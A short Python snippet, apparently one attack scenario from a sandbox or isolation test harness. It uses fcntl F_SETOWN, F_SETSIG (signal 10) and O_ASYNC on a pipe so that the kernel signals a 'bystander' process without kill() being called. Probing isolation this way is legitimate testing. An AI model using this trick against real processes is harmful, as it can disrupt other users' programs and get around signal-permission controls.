"""Have the kernel send the signal: own a pipe's input in another's name."""
import fcntl
import os


def attack(x):
    reading, writing = os.pipe()
    fcntl.fcntl(reading, fcntl.F_SETOWN, SCENE["bystander_pid"])
    fcntl.fcntl(reading, 10, 10)
    fcntl.fcntl(reading, fcntl.F_SETFL, fcntl.fcntl(reading, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(writing, b"x")
